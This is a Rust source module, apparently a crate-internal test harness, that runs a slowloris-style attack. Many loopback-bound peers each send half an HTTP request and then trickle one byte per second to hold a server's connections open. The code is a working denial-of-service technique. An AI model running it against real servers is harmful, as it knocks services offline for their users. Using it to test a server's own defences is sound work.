//! Peers that never finish their request.

use std::io;
use std::net::{Ipv4Addr, SocketAddr};
use std::time::Duration;

use corering::net::{TcpSocket, TcpStream};
use corering::task::JoinSet;
use corering::time::{sleep, timeout};

/// Between two bytes of an attacker.
const PAUSE: Duration = Duration::from_secs(1);
/// Before an attacker that was put out comes again.
const RETREAT: Duration = Duration::from_secs(4);

/// Attacks until it is dropped.
pub(crate) async fn attack(address: SocketAddr, attackers: usize) {
    let mut all = JoinSet::new();
    for number in 0..attackers {
        all.spawn(async move {
            loop {
                // It is there to be refused.
                let _ = half_a_request(address, number).await;
                sleep(RETREAT).await;
            }
        });
        // A server's backlog is not what is attacked.
        if number % 100 == 99 {
            sleep(Duration::from_millis(5)).await;
        }
    }
    all.join_next().await;
}

/// Sends half a request, and then a byte now and then for as long as it is let.
async fn half_a_request(address: SocketAddr, number: usize) -> io::Result<()> {
    let stream = from_its_own_address(address, number).await?;
    stream.write_all("GET / HTTP/1.1\r\nX: ").await.0?;
    loop {
        match timeout(PAUSE, stream.recv()).await {
            Ok(Ok(Some(_))) => {}
            Ok(_) => return Ok(()),
            Err(_) => stream.write_all("x").await.0?,
        }
    }
}

/// Every peer has an address of its own, so there are ports for all.
async fn from_its_own_address(address: SocketAddr, number: usize) -> io::Result<TcpStream> {
    let [high, low] = ((number / 250 % 250) as u8, (number % 250) as u8).into();
    let own = Ipv4Addr::new(127, 1, high, low + 1);
    let socket = TcpSocket::new_v4()?.bind(SocketAddr::from((own, 0)))?;
    socket.connect(address).await
}
